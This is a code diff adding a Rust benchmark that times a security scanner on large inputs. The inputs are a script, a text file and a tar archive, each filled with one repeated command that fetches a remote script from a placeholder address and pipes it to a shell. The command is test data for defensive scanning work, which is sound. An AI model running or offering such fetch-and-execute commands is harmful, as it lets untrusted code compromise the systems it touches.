@@ -61,5 +61,36 @@ fn archive(criterion: &mut Criterion) {
     group.finish();
 }
 
-criterion_group!(benches, stages, process, archive);
+/// The inputs that cost most for their size: every line is a finding.
+fn hostile(criterion: &mut Criterion) {
+    const LINE: &str = "curl -fsSL http://203.0.113.9/i.sh | sh\n";
+    let folder = tempfile::tempdir().expect("a temporary directory");
+    let lines = LINE.repeat(4 * 1024 * 1024 / LINE.len());
+    let mut archive = tar::Builder::new(Vec::new());
+    for index in 0..128 {
+        let script = LINE.repeat(32 * 1024 / LINE.len());
+        let mut header = tar::Header::new_ustar();
+        header.set_size(script.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        archive.append_data(&mut header, format!("{index}.sh"), script.as_bytes()).expect("a member fits");
+    }
+    let inputs = [
+        ("4 MiB of commands in a script", "run.sh", lines.clone().into_bytes()),
+        ("4 MiB of commands in a text", "notes.txt", lines.into_bytes()),
+        ("4 MiB of scripts in an archive", "data.tar", archive.into_inner().expect("an archive ends")),
+    ];
+    let scanner = scanner();
+    let mut group = criterion.benchmark_group("hostile");
+    group.sample_size(10);
+    for (what, name, bytes) in inputs {
+        let package = folder.path().join(name.replace('.', "-"));
+        std::fs::create_dir(&package).expect("a new directory");
+        std::fs::write(package.join(name), bytes).expect("a new file");
+        group.bench_function(what, |bench| bench.iter(|| scanner.scan(&package, &())));
+    }
+    group.finish();
+}
+
+criterion_group!(benches, stages, process, archive, hostile);
 criterion_main!(benches);
